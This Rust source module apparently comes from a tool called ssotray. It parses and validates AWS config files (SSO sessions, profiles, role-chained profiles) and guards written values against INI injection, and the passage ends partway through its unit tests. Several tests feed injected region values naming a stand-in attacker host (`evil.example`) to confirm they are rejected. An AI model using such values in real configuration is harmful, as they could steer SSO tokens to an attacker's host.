//! `~/.aws/config`: sso-sessions, SSO profiles and what is wrong with them.
//!
//! Reading is tolerant: comments, unknown keys and sections ssotray does not use are fine, a line
//! the INI parser cannot read is reported and skipped, and a broken profile or session is reported
//! (naming its section and key and what to fix) without hiding the good ones. This module never
//! writes the file.
//!
//! Parsing is rust-ini's, into sso-sessions, SSO profiles, chained profiles (`ChainedProfile`, read
//! and checked with the other profiles; `chain` resolves them) and `ConfigProblem`s (section, key,
//! what to fix). Lines are split as Python's universal newlines split them (a lone CR ends a line,
//! as for botocore). Unreadable lines are pre-screened, reported and skipped; a broken section
//! header becomes a section nothing reads.
//!
//! `ini_problem` is the check every value written into the file passes (no control character, no
//! leading `[`, no `]` in a name, no space at either end, no `\`): what fails it is refused, never
//! escaped. `SsoTarget` is "whatever owns a token file": an sso-session or a legacy start URL.

use ini::{Ini, ParseOption};
use std::collections::BTreeMap;
use std::fmt;
use std::path::PathBuf;

/// An `[sso-session NAME]` section.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
pub struct SsoSession {
    /// The session's name.
    pub name: String,
    /// `sso_start_url`.
    pub start_url: String,
    /// `sso_region`.
    pub region: String,
    /// `sso_registration_scopes`, comma-separated in the file.
    pub scopes: Vec<String>,
}

/// Where a profile's SSO settings come from.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
pub enum SsoSource {
    /// `sso_session = NAME`.
    Session(String),
    /// A legacy profile with its own `sso_start_url` and `sso_region`.
    Legacy {
        /// `sso_start_url`, exactly as written.
        start_url: String,
        /// `sso_region`.
        region: String,
    },
}

/// A profile that uses Identity Center.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
pub struct SsoProfile {
    /// Profile name (`default` for `[default]`).
    pub name: String,
    /// Session or legacy settings.
    pub source: SsoSource,
    /// `sso_account_id`.
    pub account_id: Option<String>,
    /// `sso_role_name`.
    pub role_name: Option<String>,
    /// `region` (the profile's service region, not the SSO region).
    pub region: Option<String>,
}

/// A profile with `role_arn`.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
pub struct ChainedProfile {
    /// Profile name.
    pub name: String,
    /// `role_arn`.
    pub role_arn: String,
    /// `source_profile`.
    pub source_profile: Option<String>,
    /// `credential_source` (not supported; kept to say so).
    pub credential_source: Option<String>,
    /// `mfa_serial` (not supported; kept to say so).
    pub mfa_serial: Option<String>,
    /// `role_session_name`.
    pub role_session_name: Option<String>,
    /// `external_id`.
    pub external_id: Option<String>,
    /// `duration_seconds`.
    pub duration_seconds: Option<u32>,
    /// `region`.
    pub region: Option<String>,
}

impl ChainedProfile {
    /// Reads a profile section that has `role_arn`.
    pub(crate) fn from_keys(
        name: &str,
        section: &str,
        keys: &BTreeMap<String, String>,
    ) -> Result<ChainedProfile, Vec<ConfigProblem>> {
        let get = |k: &str| keys.get(k).filter(|v| !v.is_empty()).cloned();
        let mut errs = Vec::new();
        let role_arn = get("role_arn").unwrap_or_default();
        if parse_role_arn(&role_arn).is_none() {
            errs.push(problem(
                section,
                Some("role_arn"),
                format!(
                    "`{role_arn}` is not a role ARN; write `arn:aws:iam::ACCOUNT_ID:role/NAME`"
                ),
            ));
        }
        let duration_seconds = match get("duration_seconds") {
            None => None,
            Some(v) => match v.parse::<u32>() {
                Ok(d) if (900..=43200).contains(&d) => Some(d),
                _ => {
                    errs.push(problem(
                        section,
                        Some("duration_seconds"),
                        format!("`{v}` is not a number of seconds from 900 to 43200; fix it or remove the line (STS then gives 1 hour)"),
                    ));
                    None
                }
            },
        };
        if let Some(n) = get("role_session_name") {
            if !(2..=64).contains(&n.len())
                || !n
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || "_+=,.@-".contains(c))
            {
                errs.push(problem(
                    section,
                    Some("role_session_name"),
                    format!("`{n}` is not a session name STS accepts (2 to 64 of letters, digits and _+=,.@-); fix it"),
                ));
            }
        }
        if !errs.is_empty() {
            return Err(errs);
        }
        Ok(ChainedProfile {
            name: name.to_string(),
            role_arn,
            source_profile: get("source_profile"),
            credential_source: get("credential_source"),
            mfa_serial: get("mfa_serial"),
            role_session_name: get("role_session_name"),
            external_id: get("external_id"),
            duration_seconds,
            region: get("region"),
        })
    }

    /// The account of the role.
    pub fn account_id(&self) -> &str {
        parse_role_arn(&self.role_arn).map_or("", |(_, a, _)| a)
    }

    /// The role's name (the last part of its path).
    pub fn role_name(&self) -> &str {
        parse_role_arn(&self.role_arn).map_or("", |(_, _, r)| r)
    }
}

/// `arn:PARTITION:iam::ACCOUNT:role/PATH/NAME` → (partition, account, name).
pub fn parse_role_arn(arn: &str) -> Option<(&str, &str, &str)> {
    let mut parts = arn.splitn(6, ':');
    let (prefix, partition, service, region, account, resource) = (
        parts.next()?,
        parts.next()?,
        parts.next()?,
        parts.next()?,
        parts.next()?,
        parts.next()?,
    );
    let role = resource.strip_prefix("role/")?;
    let name = role.rsplit('/').next()?;
    (prefix == "arn"
        && matches!(partition, "aws" | "aws-cn" | "aws-us-gov")
        && service == "iam"
        && region.is_empty()
        && account.len() == 12
        && account.bytes().all(|b| b.is_ascii_digit())
        && !name.is_empty())
    .then_some((partition, account, name))
}

/// A problem found in the config file, with where it is and what to do.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
pub struct ConfigProblem {
    /// The section as written in the file, e.g. `profile dev`; empty for a line outside sections.
    pub section: String,
    /// The key at fault, when there is one.
    pub key: Option<String>,
    /// What is wrong and what to do.
    pub message: String,
}

impl fmt::Display for ConfigProblem {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match (&self.section, &self.key) {
            (s, _) if s.is_empty() => f.write_str(&self.message),
            (s, Some(k)) => write!(f, "[{s}] `{k}`: {}", self.message),
            (s, None) => write!(f, "[{s}]: {}", self.message),
        }
    }
}

/// One thing that holds a token: an sso-session, or the start URL of legacy profiles.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SsoTarget {
    /// The sso-session name; `None` for legacy profiles.
    pub session_name: Option<String>,
    /// Start URL exactly as configured (it names the legacy cache file).
    pub start_url: String,
    /// `sso_region`.
    pub region: String,
    /// Registration scopes (sso-sessions only).
    pub scopes: Vec<String>,
}

impl SsoTarget {
    /// The string whose SHA-1 names the token cache file: the session name, else the start URL.
    pub fn cache_id(&self) -> &str {
        self.session_name.as_deref().unwrap_or(&self.start_url)
    }
    /// What to call it in messages.
    pub fn display_name(&self) -> &str {
        self.cache_id()
    }
    /// Whether this is a legacy (profile-level) configuration, which never refreshes.
    pub fn is_legacy(&self) -> bool {
        self.session_name.is_none()
    }
}

/// The parsed config file.
#[derive(Debug, Clone, Default)]
pub struct AwsConfig {
    /// Where it was read from.
    pub path: PathBuf,
    /// Valid sso-sessions, in file order.
    pub sessions: Vec<SsoSession>,
    /// Valid SSO profiles, in file order.
    pub profiles: Vec<SsoProfile>,
    /// Profiles with `role_arn` (roles assumed through STS on top of another profile), in file
    /// order. A `role_arn` wins over `sso_*` keys in the same profile, as in botocore.
    pub chained: Vec<ChainedProfile>,
    /// Every profile section's name, in file order (SSO, chained and the rest).
    pub all_profiles: Vec<String>,
    /// Everything that was wrong.
    pub problems: Vec<ConfigProblem>,
    /// The keys written in `[default]` and in `[profile default]` (the first section of each
    /// name, as `credfile::section_keys` reads them), where there is such a section: `exec`
    /// warns of credentials there. Filled by the command line's load (`ops::config_index`),
    /// not by [`AwsConfig::parse`].
    pub default_keys: Vec<(String, Vec<String>)>,
}

impl AwsConfig {
    /// Parses config text. Never fails: what cannot be used becomes a [`ConfigProblem`].
    pub fn parse(path: PathBuf, text: &str) -> AwsConfig {
        let text = text
            .strip_prefix(crate::platform::files::BOM)
            .unwrap_or(text);
        let mut problems = Vec::new();
        let ini = parse_ini_skipping_bad_lines(text, &mut problems);
        let mut config = AwsConfig {
            path,
            problems,
            ..Default::default()
        };

        // Merge repeated sections the way botocore does: later keys win.
        let mut sessions: BTreeMap<String, BTreeMap<String, String>> = BTreeMap::new();
        let mut session_order = Vec::new();
        let mut profiles: BTreeMap<String, (String, BTreeMap<String, String>)> = BTreeMap::new();
        let mut profile_order = Vec::new();
        for (section, props) in ini.iter() {
            let Some(section) = section else { continue };
            let section = restore(section);
            let section = section.trim();
            let keys = props
                .iter()
                .map(|(k, v)| (restore(k).trim().to_string(), restore(v).trim().to_string()));
            if let Some(name) = section.strip_prefix("sso-session ") {
                let name = name.trim().to_string();
                if !sessions.contains_key(&name) {
                    session_order.push(name.clone());
                }
                sessions.entry(name).or_default().extend(keys);
            } else if let Some(name) = profile_name(section) {
                if !profiles.contains_key(&name) {
                    profile_order.push(name.clone());
                }
                profiles
                    .entry(name)
                    .or_insert_with(|| (section.to_string(), BTreeMap::new()))
                    .1
                    .extend(keys);
            }
        }

        for name in session_order {
            let keys = &sessions[&name];
            if let Some(s) = validate_session(&name, keys, &mut config.problems) {
                config.sessions.push(s);
            }
        }
        config.all_profiles = profile_order.clone();
        for name in profile_order {
            let (section, keys) = &profiles[&name];
            if keys.get("role_arn").is_some_and(|v| !v.is_empty()) {
                match ChainedProfile::from_keys(&name, section, keys) {
                    Ok(c) => config.chained.push(c),
                    Err(mut errs) => config.problems.append(&mut errs),
                }
                continue;
            }
            if let Some(p) = validate_profile(&name, section, keys, &config, &sessions) {
                match p {
                    Ok(p) => config.profiles.push(p),
                    Err(mut errs) => config.problems.append(&mut errs),
                }
            }
        }
        config
    }

    /// The sso-session called `name`.
    pub fn session(&self, name: &str) -> Option<&SsoSession> {
        self.sessions.iter().find(|s| s.name == name)
    }

    /// The SSO profile called `name`.
    pub fn profile(&self, name: &str) -> Option<&SsoProfile> {
        self.profiles.iter().find(|p| p.name == name)
    }

    /// The chained (`role_arn`) profile called `name`.
    pub fn chained_profile(&self, name: &str) -> Option<&ChainedProfile> {
        self.chained.iter().find(|p| p.name == name)
    }

    /// Problems found in a given section (e.g. `profile dev` or `sso-session my-sso`).
    pub fn problems_in(&self, section: &str) -> Vec<&ConfigProblem> {
        self.problems
            .iter()
            .filter(|p| p.section == section)
            .collect()
    }

    /// Every token holder: each sso-session, then each distinct legacy start URL.
    pub fn targets(&self) -> Vec<SsoTarget> {
        let mut out: Vec<SsoTarget> = self.sessions.iter().map(session_target).collect();
        for p in &self.profiles {
            if let SsoSource::Legacy { start_url, region } = &p.source {
                if !out
                    .iter()
                    .any(|t| t.is_legacy() && &t.start_url == start_url)
                {
                    out.push(SsoTarget {
                        session_name: None,
                        start_url: start_url.clone(),
                        region: region.clone(),
                        scopes: Vec::new(),
                    });
                }
            }
        }
        out
    }

    /// The token holder a profile uses.
    pub fn target_of(&self, profile: &SsoProfile) -> Option<SsoTarget> {
        match &profile.source {
            SsoSource::Session(name) => self.session(name).map(session_target),
            SsoSource::Legacy { start_url, region } => Some(SsoTarget {
                session_name: None,
                start_url: start_url.clone(),
                region: region.clone(),
                scopes: Vec::new(),
            }),
        }
    }
}

/// Why `value` cannot be written into `~/.aws/config` as it is, if it cannot: a line break,
/// tab, NUL or other control character would end or bend the line (and could start a section
/// or a `credential_process` of someone else's choosing), a leading `[` reads as a section,
/// and spaces at either end are trimmed by every reader. A `name` (in a section header) also
/// may not hold `]`. Nothing is ever escaped: the value is refused.
pub fn ini_problem(what: &str, value: &str, name: bool) -> Option<String> {
    let why = if value.is_empty() {
        "is empty"
    } else if value.chars().any(char::is_control) {
        "contains a line break, tab or other control character"
    } else if value.starts_with('[') {
        "starts with `[`"
    } else if name && value.contains(']') {
        "contains `]`"
    } else if value.trim() != value {
        "starts or ends with a space"
    } else if value.contains('\\') {
        // No start URL, name or role needs one, and INI readers disagree on them (found by
        // fuzzing: rust-ini reads a trailing one as a line continuation).
        "contains `\\`"
    } else {
        return None;
    };
    Some(format!(
        "{what} {:?} {why}, so it cannot be written into the AWS config file",
        value
    ))
}

/// The line end a config text uses: CRLF if its first line ends so (a file saved on Windows),
/// else LF.
pub fn line_end(text: &str) -> &'static str {
    match text.find('\n') {
        Some(i) if text[..i].ends_with('\r') => "\r\n",
        _ => "\n",
    }
}

/// The config text with a new `[sso-session NAME]` section appended; every existing byte stays.
/// Refuses a name already in use or not one word, a start URL that is not an https URL (or
/// holds anything an INI line cannot), and a region that does not look like one.
pub fn append_sso_session(
    text: &str,
    name: &str,
    start_url: &str,
    region: &str,
) -> Result<String, crate::platform::files::Invalid> {
    let name = name.trim();
    if let Some(p) = ini_problem("the session name", name, true) {
        return Err(format!("{p}; use one word, like `my-sso`").into());
    }
    if !name
        .chars()
        .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | '@' | '+'))
    {
        return Err(format!("the session name {name:?} must be one word of letters, digits and `-_.@+`, like `my-sso`").into());
    }
    let start_url = start_url.trim();
    // Checked before the URL parser, which silently drops line breaks and tabs.
    if let Some(p) = ini_problem("the start URL", start_url, false) {
        return Err(format!(
            "{p}; copy the AWS access portal URL, e.g. https://d-1234567890.awsapps.com/start"
        )
        .into());
    }
    if start_url.contains(char::is_whitespace) {
        return Err("the start URL contains a space; copy the AWS access portal URL, e.g. https://d-1234567890.awsapps.com/start".into());
    }
    if let Some(p) = validate_start_url("", "sso_start_url", start_url) {
        return Err(p.message.into());
    }
    let region = region.trim();
    if region.is_empty()
        || !region
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '-')
    {
        return Err("the region must look like `us-east-1`".into());
    }
    let existing = AwsConfig::parse(PathBuf::new(), text);
    if existing.session(name).is_some()
        || existing
            .problems
            .iter()
            .any(|p| p.section == format!("sso-session {name}"))
    {
        return Err(
            format!("an [sso-session {name}] section already exists; pick another name").into(),
        );
    }
    let nl = line_end(text);
    let mut out = text.to_string();
    if !out.is_empty() {
        if !out.ends_with('\n') {
            out.push_str(nl);
        }
        out.push_str(nl);
    }
    let section = format!("[sso-session {name}]\nsso_start_url = {start_url}\nsso_region = {region}\nsso_registration_scopes = sso:account:access\n");
    out.push_str(&section.replace('\n', nl));
    Ok(out)
}

fn session_target(s: &SsoSession) -> SsoTarget {
    SsoTarget {
        session_name: Some(s.name.clone()),
        start_url: s.start_url.clone(),
        region: s.region.clone(),
        scopes: s.scopes.clone(),
    }
}

fn profile_name(section: &str) -> Option<String> {
    if section == "default" {
        return Some("default".into());
    }
    section
        .strip_prefix("profile ")
        .map(|n| n.trim().to_string())
        .filter(|n| !n.is_empty())
}

/// A config line as it may be shown in a message: `key = …` for assignments (values can be
/// secrets such as `aws_secret_access_key`), the first 24 characters of anything else.
fn quote_safely(line: &str) -> String {
    match line.split_once(['=', ':']) {
        Some((key, _)) if !key.trim().is_empty() => format!("{} = …", key.trim()),
        _ if line.chars().count() > 24 => format!("{}…", line.chars().take(24).collect::<String>()),
        _ => line.to_string(),
    }
}

/// A section header line up to its last `]`: botocore (configparser) ignores what follows it,
/// as in `[default] # mine`.
pub(crate) fn header_part(trimmed: &str) -> Option<&str> {
    trimmed
        .rfind(']')
        .filter(|i| *i > 0)
        .map(|i| &trimmed[..=i])
}

/// Why a line of an AWS config file cannot be read, if it cannot.
fn unreadable_line(line: &str, after_key: bool) -> Option<&'static str> {
    let trimmed = line.trim();
    if trimmed.is_empty() || trimmed.starts_with('#') || trimmed.starts_with(';') {
        return None;
    }
    if trimmed.starts_with('[') {
        let Some(header) = header_part(trimmed) else {
            return Some("a section header without its closing `]`");
        };
        // Found by fuzzing: botocore reads the name up to the last `]`, the INI reader up to the
        // first, and then loses the sections after it. No AWS name holds a bracket.
        return header[1..header.len() - 1]
            .contains(['[', ']'])
            .then_some("a section header with a bracket inside its name");
    }
    if line.starts_with([' ', '\t']) && after_key {
        // Continuation lines are handled by the caller.
        return None;
    }
    match trimmed.find(['=', ':']) {
        Some(0) => Some("a value without a key"),
        Some(_) => None,
        None => Some("neither `key = value`, a `[section]` nor a comment"),
    }
}

/// What the INI reader gets instead of a backslash. Found by fuzzing, it reads backslashes as
/// escapes and line continuations (even with escapes off), where botocore reads them as they
/// are (`ca_bundle = C:\certs\`), and then loses the lines after them. A private-use character
/// escapes them (`\` as `ESCAPE b`, the character itself as `ESCAPE e`, in
/// `hide_backslashes`), so any text comes back as it was (`restore`).
const ESCAPE: char = '\u{e000}';

fn hide_backslashes(line: &str) -> String {
    let mut out = String::with_capacity(line.len());
    for c in line.chars() {
        match c {
            '\\' => out.extend([ESCAPE, 'b']),
            ESCAPE => out.extend([ESCAPE, 'e']),
            c => out.push(c),
        }
    }
    out
}

/// A key, value or section name as the file has it.
fn restore(text: &str) -> std::borrow::Cow<'_, str> {
    if !text.contains(ESCAPE) {
        return text.into();
    }
    let mut out = String::with_capacity(text.len());
    let mut chars = text.chars();
    while let Some(c) = chars.next() {
        match (c, c == ESCAPE) {
            (_, false) => out.push(c),
            (_, true) => match chars.next() {
                Some('b') => out.push('\\'),
                Some('e') => out.push(ESCAPE),
                // Not written by `hide_backslashes`: keep what is there.
                Some(other) => out.extend([ESCAPE, other]),
                None => out.push(ESCAPE),
            },
        }
    }
    out.into()
}

/// Parses INI text. A line that cannot be read is reported and left out (in memory only; the file
/// is never touched); a broken section header becomes a section of its own that nothing reads, so
/// the keys under it are not mistaken for the previous section's. One bad line never hides the
/// rest of the file.
fn parse_ini_skipping_bad_lines(text: &str, problems: &mut Vec<ConfigProblem>) -> Ini {
    let mut lines: Vec<String> = Vec::new();
    let mut after_key = false;
    // Whether the key line above had a value of its own (so an indented line would extend it).
    let mut key_had_value = false;
    // Universal newlines, as Python's configparser reads the file for botocore and the AWS CLI:
    // a lone CR ends a line too.
    let text = text.replace("\r\n", "\n").replace('\r', "\n");
    for (index, line) in text.lines().enumerate() {
        let trimmed = line.trim();
        let comment = trimmed.is_empty() || trimmed.starts_with(['#', ';']);
        if after_key && !comment && line.starts_with([' ', '\t']) {
            // The AWS CLI reads an indented line as part of the value above: a nested block
            // (`s3 =` then `  max_concurrent_requests = 20`), which ssotray does not use, or an
            // accidental indent that makes the line above wrong for every AWS tool.
            if key_had_value {
                problems.push(ConfigProblem {
                    section: String::new(),
                    key: None,
                    message: format!(
                        "line {} is indented, so AWS tools read it as part of the value on the line above: `{}`; remove the indentation",
                        index + 1,
                        quote_safely(trimmed)
                    ),
                });
            }
            lines.push(String::new());
            continue;
        }
        match unreadable_line(line, after_key) {
            None => {
                if trimmed.starts_with('[') {
                    after_key = false;
                } else if !comment {
                    after_key = true;
                    key_had_value = trimmed
                        .split_once(['=', ':'])
                        .is_some_and(|(_, v)| !v.trim().is_empty());
                }
                // The INI reader gets each line trimmed (as botocore trims keys and values) and
                // no comments: found by fuzzing, a line of form feeds made it lose the sections
                // after it.
                lines.push(match header_part(trimmed) {
                    _ if comment => String::new(),
                    Some(header) if trimmed.starts_with('[') => hide_backslashes(header),
                    _ => hide_backslashes(trimmed),
                });
            }
            Some(why) => {
                problems.push(ConfigProblem {
                    section: String::new(),
                    key: None,
                    message: format!(
                        "line {} of the config file cannot be read ({why}): `{}`; fix or remove that line (ssotray skipped it)",
                        index + 1,
                        quote_safely(line.trim())
                    ),
                });
                if line.trim().starts_with('[') {
                    lines.push(format!("[ssotray-unreadable-line-{}]", index + 1));
                    after_key = false;
                } else {
                    lines.push(String::new());
                }
            }
        }
    }
    let option = || ParseOption {
        enabled_quote: false,
        enabled_escape: false,
        ..ParseOption::default()
    };
    // The checks above should leave nothing rust-ini rejects; if it still does, skip that line too.
    for _ in 0..=lines.len() {
        match Ini::load_from_str_opt(&lines.join("\n"), option()) {
            Ok(ini) => return ini,
            Err(e) => {
                let index = e.line.max(1).min(lines.len().max(1)) - 1;
                problems.push(ConfigProblem {
                    section: String::new(),
                    key: None,
                    message: format!("line {} of the config file cannot be read ({}); fix or remove that line (ssotray skipped it)", index + 1, e.msg),
                });
                match lines.get_mut(index) {
                    Some(line) if !line.is_empty() => line.clear(),
                    _ => break,
                }
            }
        }
    }
    Ini::new()
}

pub(crate) fn problem(section: &str, key: Option<&str>, message: String) -> ConfigProblem {
    ConfigProblem {
        section: section.to_string(),
        key: key.map(str::to_string),
        message,
    }
}

fn validate_start_url(section: &str, key: &str, url: &str) -> Option<ConfigProblem> {
    match url::Url::parse(url) {
        Ok(u) if u.scheme() == "https" && u.host_str().is_some() => None,
        Ok(_) => Some(problem(
            section,
            Some(key),
            format!("start URL `{url}` must use https; copy the AWS access portal URL from the IAM Identity Center console"),
        )),
        Err(e) => Some(problem(
            section,
            Some(key),
            format!("`{url}` is not a URL ({e}); set it to the AWS access portal URL, e.g. https://d-1234567890.awsapps.com/start"),
        )),
    }
}

/// Why `region` is not a region name, as botocore checks one before it builds a host name from
/// it (`validate_region_name`: letters, digits and `-`, at most 63, not starting or ending with
/// `-`), so `us-east-1.evil.example/x` can never choose the host the token is sent to.
pub fn region_problem(region: &str) -> Option<String> {
    let ok = (1..=63).contains(&region.len())
        && region
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b == b'-')
        && !region.starts_with('-')
        && !region.ends_with('-');
    (!ok).then(|| format!("`{region}` is not a region name (such as `us-east-1`); use the region of your IAM Identity Center instance"))
}

fn validate_session(
    name: &str,
    keys: &BTreeMap<String, String>,
    problems: &mut Vec<ConfigProblem>,
) -> Option<SsoSession> {
    let section = format!("sso-session {name}");
    let before = problems.len();
    let start_url = keys.get("sso_start_url").filter(|v| !v.is_empty());
    let region = keys.get("sso_region").filter(|v| !v.is_empty());
    if start_url.is_none() {
        problems.push(problem(
            &section,
            Some("sso_start_url"),
            "missing; add `sso_start_url = https://…/start` (your AWS access portal URL)".into(),
        ));
    }
    if region.is_none() {
        problems.push(problem(
            &section,
            Some("sso_region"),
            "missing; add `sso_region = …`, the region of your IAM Identity Center instance".into(),
        ));
    }
    if let Some(url) = start_url {
        problems.extend(validate_start_url(&section, "sso_start_url", url));
    }
    if let Some(why) = region.and_then(|r| region_problem(r)) {
        problems.push(problem(&section, Some("sso_region"), why));
    }
    if problems.len() > before {
        return None;
    }
    let scopes = keys
        .get("sso_registration_scopes")
        .map(|s| {
            s.split(',')
                .map(str::trim)
                .filter(|s| !s.is_empty())
                .map(str::to_string)
                .collect()
        })
        .unwrap_or_default();
    Some(SsoSession {
        name: name.to_string(),
        start_url: start_url?.clone(),
        region: region?.clone(),
        scopes,
    })
}

/// Validates a profile. `None`: not an SSO profile at all.
fn validate_profile(
    name: &str,
    section: &str,
    keys: &BTreeMap<String, String>,
    config: &AwsConfig,
    raw_sessions: &BTreeMap<String, BTreeMap<String, String>>,
) -> Option<Result<SsoProfile, Vec<ConfigProblem>>> {
    let get = |k: &str| keys.get(k).filter(|v| !v.is_empty()).cloned();
    let session_name = get("sso_session");
    let start_url = get("sso_start_url");
    let region = get("sso_region");
    let account_id = get("sso_account_id");
    let role_name = get("sso_role_name");
    if session_name.is_none()
        && start_url.is_none()
        && region.is_none()
        && account_id.is_none()
        && role_name.is_none()
    {
        return None;
    }
    let mut errs = Vec::new();
    let source = if let Some(session) = &session_name {
        match config.session(session) {
            Some(s) => {
                if let Some(url) = &start_url {
                    if url != &s.start_url {
                        errs.push(problem(section, Some("sso_start_url"), format!(
                            "`{url}` disagrees with `{}` in [sso-session {session}]; remove `sso_start_url` from the profile (the session's value is used)",
                            s.start_url
                        )));
                    }
                }
                if let Some(r) = &region {
                    if r != &s.region {
                        errs.push(problem(section, Some("sso_region"), format!(
                            "`{r}` disagrees with `{}` in [sso-session {session}]; remove `sso_region` from the profile (the session's value is used)",
                            s.region
                        )));
                    }
                }
            }
            None if raw_sessions.contains_key(session) => errs.push(problem(
                section,
                Some("sso_session"),
                format!("sso-session `{session}` is broken (see its own error); fix [sso-session {session}]"),
            )),
            None => errs.push(problem(
                section,
                Some("sso_session"),
                format!("no [sso-session {session}] section exists; add one or correct the name"),
            )),
        }
        SsoSource::Session(session.clone())
    } else {
        match (&start_url, &region) {
            (Some(url), Some(r)) => {
                errs.extend(validate_start_url(section, "sso_start_url", url));
                if let Some(why) = region_problem(r) {
                    errs.push(problem(section, Some("sso_region"), why));
                }
                SsoSource::Legacy {
                    start_url: url.clone(),
                    region: r.clone(),
                }
            }
            _ => {
                if start_url.is_none() {
                    errs.push(problem(section, Some("sso_start_url"), "missing; add `sso_session = NAME` pointing at an [sso-session NAME] section (recommended), or `sso_start_url` and `sso_region`".into()));
                }
                if region.is_none() {
                    errs.push(problem(section, Some("sso_region"), "missing; add `sso_session = NAME` pointing at an [sso-session NAME] section (recommended), or `sso_start_url` and `sso_region`".into()));
                }
                SsoSource::Legacy {
                    start_url: String::new(),
                    region: String::new(),
                }
            }
        }
    };
    if let Some(id) = &account_id {
        if id.len() != 12 || !id.bytes().all(|b| b.is_ascii_digit()) {
            errs.push(problem(
                section,
                Some("sso_account_id"),
                format!("`{id}` is not a 12-digit AWS account id; copy it from the access portal"),
            ));
        }
    }
    match (&account_id, &role_name) {
        (Some(_), None) => errs.push(problem(
            section,
            Some("sso_role_name"),
            "missing while `sso_account_id` is set; add `sso_role_name = …` (a permission set name)".into(),
        )),
        (None, Some(_)) => errs.push(problem(
            section,
            Some("sso_account_id"),
            "missing while `sso_role_name` is set; add `sso_account_id = …` (12 digits)".into(),
        )),
        _ => {}
    }
    if !errs.is_empty() {
        return Some(Err(errs));
    }
    Some(Ok(SsoProfile {
        name: name.to_string(),
        source,
        account_id,
        role_name,
        region: get("region"),
    }))
}

#[cfg(test)]
mod tests {
    use super::*;

    const GOOD: &str = r#"# my config
[default]
region = eu-west-1

[sso-session my-sso]
sso_start_url = https://d-1234567890.awsapps.com/start
sso_region = us-east-1
sso_registration_scopes = sso:account:access , other:scope
; a comment
unknown_key = whatever

[profile dev]
sso_session = my-sso
sso_account_id = 111111111111
sso_role_name = ReadOnly
region = us-west-2
output = json
s3 =
  max_concurrent_requests = 20

[profile legacy]
sso_start_url = https://d-9999999999.awsapps.com/start
sso_region = eu-central-1
sso_account_id = 222222222222
sso_role_name = Admin

[profile plain]
aws_access_key_id = nothing-to-do-with-sso

[services local]
s3 =
  endpoint_url = http://localhost:9000
"#;

    fn parse(text: &str) -> AwsConfig {
        AwsConfig::parse(PathBuf::from("/home/u/.aws/config"), text)
    }

    fn problems(text: &str) -> Vec<String> {
        parse(text).problems.iter().map(|p| p.to_string()).collect()
    }

    #[test]
    fn reads_sessions_profiles_and_legacy_profiles() {
        let c = parse(GOOD);
        assert!(c.problems.is_empty(), "{:?}", c.problems);
        assert_eq!(
            c.sessions,
            vec![SsoSession {
                name: "my-sso".into(),
                start_url: "https://d-1234567890.awsapps.com/start".into(),
                region: "us-east-1".into(),
                scopes: vec!["sso:account:access".into(), "other:scope".into()],
            }]
        );
        let names: Vec<_> = c.profiles.iter().map(|p| p.name.as_str()).collect();
        assert_eq!(names, ["dev", "legacy"]);
        assert_eq!(
            c.profile("dev").unwrap().region.as_deref(),
            Some("us-west-2")
        );
        let targets: Vec<_> = c
            .targets()
            .iter()
            .map(|t| t.cache_id().to_string())
            .collect();
        assert_eq!(
            targets,
            ["my-sso", "https://d-9999999999.awsapps.com/start"]
        );
    }

    /// botocore reads the file with `RawConfigParser()`, whose `inline_comment_prefixes` is
    /// None: `#` or `;` after a value is part of the value. A start URL copied from the browser
    /// (`…/start/#/`) keys the AWS CLI's legacy token cache with its `#/`, so ssotray's must too.
    #[test]
    fn a_hash_or_semicolon_inside_a_value_is_part_of_it_as_botocore_reads_it() {
        let c = parse(
            "[profile legacy]\nsso_start_url = https://d-9999999999.awsapps.com/start/#/\nsso_region = eu-central-1\nsso_account_id = 222222222222\nsso_role_name = Admin\nregion = us-west-2 ; prod\n# a comment line\n; another\n",
        );
        let targets: Vec<_> = c
            .targets()
            .iter()
            .map(|t| t.cache_id().to_string())
            .collect();
        assert_eq!(targets, ["https://d-9999999999.awsapps.com/start/#/"]);
        assert_eq!(
            c.profile("legacy").unwrap().region.as_deref(),
            Some("us-west-2 ; prod")
        );
    }

    #[test]
    fn sso_region_is_checked_as_botocore_checks_a_region_name() {
        for good in [
            "us-east-1",
            "eu-central-1",
            "cn-north-1",
            "us-gov-west-1",
            "a",
            "A1",
        ] {
            assert_eq!(region_problem(good), None, "{good}");
        }
        for bad in [
            "",
            "us-east-1.evil.example",
            "us-east-1/x",
            "-us",
            "us-",
            "us east",
            "ü",
            &"a".repeat(64),
        ] {
            assert!(region_problem(bad).is_some(), "{bad}");
        }
        let p = problems("[sso-session a]\nsso_start_url = https://d-1.awsapps.com/start\nsso_region = evil.example/x\n");
        assert_eq!(p.len(), 1, "{p:?}");
        assert!(
            p[0].starts_with("[sso-session a] `sso_region`: `evil.example/x` is not a region name"),
            "{p:?}"
        );
        let p = problems("[profile l]\nsso_start_url = https://d-1.awsapps.com/start\nsso_region = x.y\nsso_account_id = 111111111111\nsso_role_name = R\n");
        assert!(
            p.iter()
                .any(|p| p.contains("`sso_region`: `x.y` is not a region name")),
            "{p:?}"
        );
    }

    #[test]
    fn each_validation_error_names_section_key_and_fix() {
        let p = problems("[sso-session a]\nsso_region = us-east-1\n");
        assert_eq!(p.len(), 1);
        assert!(
            p[0].starts_with("[sso-session a] `sso_start_url`: missing; add"),
            "{p:?}"
        );

        let p = problems(
            "[sso-session a]\nsso_start_url = http://x.awsapps.com/start\nsso_region = us-east-1\n",
        );
        assert!(
            p[0].contains("`sso_start_url`: start URL `http://x.awsapps.com/start` must use https"),
            "{p:?}"
        );

        let p = problems(
            "[profile p]\nsso_session = nope\nsso_account_id = 111111111111\nsso_role_name = R\n",
        );
        assert_eq!(p, ["[profile p] `sso_session`: no [sso-session nope] section exists; add one or correct the name"]);

        let p = problems(&format!(
            "{GOOD}\n[profile bad]\nsso_session = my-sso\nsso_region = eu-west-1\n"
        ));
        assert_eq!(p.len(), 1);
        assert!(
